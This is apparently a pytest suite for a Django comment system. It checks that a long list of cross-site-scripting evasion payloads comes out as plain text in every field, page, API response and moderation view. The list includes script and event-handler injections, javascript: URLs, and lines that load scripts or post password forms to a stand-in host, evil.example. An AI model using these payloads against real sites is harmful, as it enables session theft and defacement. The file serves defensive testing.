"""Whatever readers type, what comes out of a page is text: evasions of filters, through every field and the whole way.

What is checked is the page as a browser parses it, not its letters.
"""

from __future__ import annotations

from datetime import timedelta
from xml.etree.ElementTree import Element

import html5lib
import pytest
from django.test import Client
from django.utils import timezone

from previously.articles.models import ArticlePage
from previously.discussion.models import Comment, Status
from tests.cast import Catalogue, make_article
from tests.talk import fields, signed_in

pytestmark = pytest.mark.django_db

EVASIONS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror='alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror&#61;alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=background:url(https://evil.example/)>x</p>",
    "<form action=https://evil.example/><input name=password><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xss onclick=alert(1) tabindex=1>x</xss>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\x00<scr\x00ipt>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "t" onclick=alert(1))',
    "[x](https://a.example 'a\"onclick=alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "![x](https://evil.example/track.gif)",
    '```"onclick=alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[<script>alert(1)</script>]{after=S1E1}",
    '[x]{after="S1E1\\"><script>alert(1)</script>"}',
    "[x]{after=S1E1 onclick=alert(1)}",
    "\ue0000\ue001<script>alert(1)</script>",
    "{{ request.user.password }}{% include 'x' %}",
    "\u202e<tpircs>alert(1)</tpircs>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
)
SAFE = {"http", "https", "mailto", ""}
OURS = {"comment-form", "choose"}


def parsed(page: bytes) -> Element:
    tree: Element = html5lib.parse(page, namespaceHTMLElements=False)
    return tree


def dangers(tree: Element) -> list[str]:
    """What would run, load or lead astray, anywhere in a page."""
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.rpartition("}")[2].lower()
        if name in {
            "iframe",
            "object",
            "embed",
            "base",
            "svg",
            "math",
            "style",
            "template",
            "frame",
            "applet",
        }:
            found.append(name)
        if name == "script" and not (element.get("src") or "").startswith("/static/"):
            found += [name] if element.get("type") != "application/ld+json" else []
        if name == "form" and not (element.get("action") or "/").startswith(("/", "?")):
            found.append(f"form to {element.get('action')}")
        for attribute, value in element.attrib.items():
            if str(attribute).lower().startswith("on") or attribute in {"style", "srcdoc", "formaction"}:
                found.append(f"{name} {attribute}={value}")
            if attribute in {"href", "src", "action", "data"} and ":" in value.split("/")[0]:
                scheme = value.split(":")[0].strip().lower()
                found += [f"{name} {attribute}={value}"] if scheme not in SAFE else []
            if attribute == "src" and "evil" in value:
                found.append(f"{name} {attribute}={value}")
    return found


def words(tree: Element) -> str:
    return " ".join("".join(tree.itertext()).split())


@pytest.fixture
def recap(catalogue: Catalogue) -> ArticlePage:
    return make_article("recap-1", catalogue.drama, "S1E1", published_at=timezone.now() - timedelta(days=1))


def test_there_are_enough_of_them() -> None:
    assert len(set(EVASIONS)) == len(EVASIONS) >= 60


@pytest.mark.parametrize("evasion", EVASIONS)
def test_an_evasion_is_text_in_every_field(recap: ArticlePage, client: Client, evasion: str) -> None:
    typed = fields(f"Before. {evasion}", name=f"N {evasion}"[:100], note=evasion)
    answer = client.post("/recap-1/comments/", typed)
    refused = client.post("/recap-1/comments/", fields(evasion, name=evasion, email=evasion, after=evasion))
    Comment.objects.update(status=Status.APPROVED)
    page = client.get("/recap-1/")
    report = {"kind": evasion, "note": evasion, "after": evasion, "stamp": typed["stamp"]}
    pages = [page, refused]
    for comment in Comment.objects.all():
        at = f"/recap-1/comments/{comment.key}/"
        pages += [client.get(f"{at}reply/"), client.get(f"{at}edit/"), client.get(f"{at}report/")]
        pages += [client.post(f"{at}report/", report), client.get("/api/v1/articles/recap-1/comments")]

    assert answer.status_code in {303, 422}
    assert [danger for each in pages for danger in dangers(parsed(each.content))] == []


def test_an_evasion_is_text_at_the_desk_too(recap: ArticlePage, client: Client) -> None:
    for number, evasion in enumerate(EVASIONS):
        Comment.objects.create(
            article=recap, key=f"k{number}", author=evasion[:100], body=evasion, written_at=timezone.now()
        )
    desk, _owner = signed_in("owner", is_superuser=True)
    for number in range(1, len(EVASIONS) // 25 + 2):
        content = desk.get(f"/desk/moderation/?p={number}").content
        # What is Wagtail's own has drawings and scripts; what readers wrote stands in the queue.
        tree = parsed(content).find(".//ol[@class='queue']")
        assert tree is not None
        assert dangers(tree) == []


def test_the_check_can_fail() -> None:
    assert dangers(parsed(b"<p>Before. <img src=x onerror=alert(1)></p>")) == ["img onerror=alert(1)"]
    assert dangers(parsed(b"<a href='javascript:alert(1)'>x</a>")) == ["a href=javascript:alert(1)"]
